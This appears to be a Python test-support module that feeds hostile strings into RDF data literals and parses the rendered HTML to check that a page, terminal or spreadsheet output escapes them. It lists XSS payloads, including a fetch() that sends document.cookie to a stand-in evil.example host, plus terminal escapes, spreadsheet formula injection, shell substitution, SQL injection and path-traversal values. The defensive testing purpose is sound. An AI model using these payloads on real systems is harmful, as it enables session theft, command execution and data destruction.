"""Texts that would do harm in a page, a terminal or a spreadsheet, and the structure of a page."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import islice, product

from pyoxigraph import Literal, Quad

_HARM = (
    "window.harmed=1",
    "parent.harmed=1",
    "fetch('https://evil.example/'+document.cookie)",
    "location='https://evil.example/'",
    "document.body.innerHTML=''",
    "import('https://evil.example/x.js')",
)
_FORMS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    "`onclick={}`",
    "<a href=\"javascript:{}\">x</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<iframe srcdoc=\"<script>{}</script>\">",
    "<iframe src=https://evil.example/ onload={}>",
    "<math><mi xlink:href=\"javascript:{}\">",
    "<details open ontoggle={}>",
    "<style>@import 'https://evil.example/{}';</style>",
    "<link rel=stylesheet href=https://evil.example/ onload={}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?{}'>",
    "<base href=https://evil.example/><script>{}</script>",
    "<form action=https://evil.example/><button autofocus onfocus={}>",
    "<object data=https://evil.example/ onerror={}>",
    "<video><source onerror={}></video>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</svg><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "{{{{ {} }}}}",
    "{{% for x in () %}}{}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\u202e<script>{}</script>\u2066",
    "\u2028<script>{}</script>\u2029",
    "\x01\x08<script>{}</script>\x7f",
    "<\uff53cript>{}</\uff53cript>",
    "\u00a0\u200b<scr\u200bipt>{}</script>",
    "=HYPERLINK(\"https://evil.example/\",\"{}\")",
    "<bdi></bdi></p></div></main><script>{}</script>",
    "</mark></span></td></tr></table><script>{}</script>",
    "</a><a href=//evil.example onclick={}>",
    "<template><script>{}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<input type=image src=https://evil.example/ onerror={}>",
    "<portal src=https://evil.example/ onload={}>",
    "<a ping=https://evil.example/ href=# onclick={}>",
    "<isindex action=javascript:{} type=image>",
)  # fmt: skip
STRINGS = tuple(islice((form.format(harm) for harm, form in product(_HARM, _FORMS)), 300))
EVERYTHING = " ".join(STRINGS)
ESCAPES = (
    "\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\", "\x1b[6n",
    "\x1bP+q544e\x1b\\", "\x9b31m", "\x9d0;owned\x9c", "\x08\x08\x08", "\rkg: done", "\x00", "\x7f", "\u202etxt.exe",
    "\ufeff\u2066", "\u2028", "\x85", "[bold]x[/]", "[link=https://evil.example/]x[/link]", "[/]",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\uff1d1+1", "$(reboot)", "`reboot`",
    "'; DROP TABLE papers; --", "%s%n%x", "../../etc/passwd", "\ud800",
)  # fmt: skip
"""Sequences that a terminal, a spreadsheet, a shell or a format string interprets."""
_KEPT = ("uriSpace", "notation")
"""Properties whose values are parts of addresses or codes, and not text of a listing."""


def hostile_quad(quad: Quad, text: str = EVERYTHING) -> Quad:
    """Return a statement with another text before its text, by default all hostile strings.

    In an abstract, it is behind the text, because the offsets of mentions count from the beginning.
    """
    term = quad.object
    is_text = isinstance(term, Literal) and term.datatype.value.endswith("#string")
    if not is_text or any(name in quad.predicate.value for name in _KEPT):
        return quad
    both = (term.value, text) if quad.predicate.value.endswith("/abstract") else (text, term.value)
    return Quad(quad.subject, quad.predicate, Literal(" ".join(both)), quad.graph_name)


class PageStructure(HTMLParser):
    """Set of the elements of a page, each with the names of its attributes, and the addresses that it names."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: set[tuple[str, ...]] = set()
        self.addresses: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record an element."""
        self.elements.add((tag, *sorted(name for name, _ in attrs)))
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src", "action")}
